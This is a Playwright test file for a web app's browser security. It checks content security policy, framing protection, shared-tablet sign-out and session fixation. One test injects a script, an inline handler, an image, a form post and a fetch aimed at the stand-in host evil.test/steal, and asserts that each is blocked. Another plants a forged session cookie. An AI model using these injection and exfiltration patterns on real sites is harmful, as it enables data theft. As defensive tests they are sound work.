// What only a real browser can tell: that the rules sent with a page hold in it, and what the next person finds on a shared tablet.
import { expect, test, type BrowserContext, type Page } from '@playwright/test'
import type { PaperSlip } from './doors.ts'
import { pin } from './learner.ts'
import { world } from './server.ts'
import { ask, newcomer, staffCookie, unitNamed } from './stranger.ts'

test.describe.configure({ mode: 'serial' })

const slips: PaperSlip[] = []
test.beforeAll(async () => {
  const administrator = staffCookie('administratorState')
  const unit = await unitNamed(administrator, '大学前店')
  for (const number of ['w-20', 'w-21']) slips.push(await newcomer(administrator, unit, number))
})

async function complaints(page: Page, paths: readonly string[]): Promise<string[]> {
  const found: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error') found.push(`${new URL(page.url()).pathname}: ${message.text()}`)
  })
  for (const path of paths) {
    await page.goto(path)
    await page.locator('html[data-ready]').waitFor()
  }
  return found
}

test('no page of ours breaks its own rules', async ({ browser }) => {
  const { origin, administratorState } = world()
  const outside = await browser.newPage({ baseURL: origin })
  expect(await complaints(outside, ['/', '/in', '/try'])).toEqual([])
  const desk = await browser.newContext({ baseURL: origin, storageState: administratorState })
  expect(
    await complaints(await desk.newPage(), [
      '/home',
      '/admin',
      '/admin/people',
      '/admin/evidence',
      '/shop',
      '/shop/poster',
      '/me'
    ])
  ).toEqual([])
  await Promise.all([outside.context().close(), desk.close()])
})

test('a planted script does not run, a planted picture is not fetched, a planted form goes nowhere', async ({
  browser
}) => {
  const page = await browser.newPage({ baseURL: world().origin })
  const left: string[] = []
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') left.push(request.url())
  })
  await page.goto('/')
  const blocked = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'window.planted = true'
    document.body.append(script)
    const image = document.createElement('img')
    image.src = 'http://evil.test/steal.png'
    document.body.append(image)
    image.setAttribute('onclick', 'window.planted = true')
    image.click()
    const form = document.createElement('form')
    form.action = 'http://evil.test/steal'
    document.body.append(form)
    form.submit()
    await fetch('http://evil.test/steal').catch(() => {})
    await new Promise((resolve) => setTimeout(resolve, 200))
    return { violations: [...new Set(violations)].sort(), planted: 'planted' in window }
  })
  expect(blocked.planted).toBe(false)
  expect(blocked.violations).toEqual(
    expect.arrayContaining(['connect-src', 'form-action', 'img-src', 'script-src-attr', 'script-src-elem'])
  )
  expect(left).toEqual([])
  await page.context().close()
})

test('no other site shows our pages in a frame', async ({ browser }) => {
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.route('http://evil.test/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${world().origin}/in"></iframe>` })
  )
  await page.goto('http://evil.test/')
  const frame = page.frames().at(-1)
  await frame?.waitForLoadState().catch(() => {})
  expect(
    await frame
      ?.locator('input')
      .count()
      .catch(() => 0)
  ).toBe(0)
  await context.close()
})

async function sessionCookie(context: BrowserContext) {
  return (await context.cookies()).find(({ name }) => name === 'hinoyojin')
}

async function activateHere(page: Page, slip: PaperSlip): Promise<void> {
  await page.goto(`/in/${slip.join.replace('-', '')}/first`)
  await page.locator('input[name="number"]').fill(slip.number)
  await page.locator('input[name="slip"]').fill(slip.code)
  await page.locator('input[name="pin"]').fill(pin)
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/home$/)
}

async function signOut(page: Page): Promise<void> {
  await page.goto('/out')
  await page.locator('html[data-ready]').waitFor()
  await page.locator('main form button').first().click()
  await page.waitForURL(/\/in$/)
}

test('on a shared tablet nobody stays signed in and nobody finds the one before, however they came in', async ({
  browser
}) => {
  const [first, second] = slips
  if (!first || !second) throw new Error('no slips')
  const context = await browser.newContext({ baseURL: world().origin, locale: 'ja-JP' })
  const page = await context.newPage()
  await activateHere(page, first)
  expect((await sessionCookie(context))?.expires).toBeGreaterThan(0)
  await signOut(page)

  // Somebody says that many use this browser: from then on it holds, also for those who come in with a slip.
  await page.goto(`/in/${first.join.replace('-', '')}`)
  await page.locator('input[name="number"]').fill(first.number)
  await page.locator('input[name="pin"]').fill(pin)
  await page.locator('input[name="shared"]').check()
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/home$/)
  expect((await sessionCookie(context))?.expires).toBe(-1)
  await signOut(page)

  await activateHere(page, second)
  expect((await sessionCookie(context))?.expires).toBe(-1)
  await page.goto('/record')
  const old = await sessionCookie(context)
  await signOut(page)
  expect(await sessionCookie(context)).toBeUndefined()

  for (let back = 0; back < 4; back++) {
    await page.goBack().catch(() => {})
    await page.waitForLoadState()
    expect(await page.locator('body').innerText()).not.toContain(second.name)
  }
  expect((await ask('/home', { cookie: `hinoyojin=${old?.value}` })).status).toBe(303)
  await context.close()
})

test('a session cannot be brought along: coming in gives a new one', async ({ browser }) => {
  const [first] = slips
  if (!first) throw new Error('no slip')
  const context = await browser.newContext({ baseURL: world().origin, locale: 'ja-JP' })
  const planted = `${'A'.repeat(22)}.${'B'.repeat(43)}`
  await context.addCookies([{ name: 'hinoyojin', value: planted, url: world().origin }])
  const page = await context.newPage()
  await page.goto(`/in/${first.join.replace('-', '')}`)
  await page.locator('input[name="number"]').fill(first.number)
  await page.locator('input[name="pin"]').fill(pin)
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/home$/)
  const now = await sessionCookie(context)
  expect(now?.value).not.toBe(planted)
  expect(now).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' })
  expect(await page.evaluate(() => document.cookie)).toBe('')
  await context.close()
})
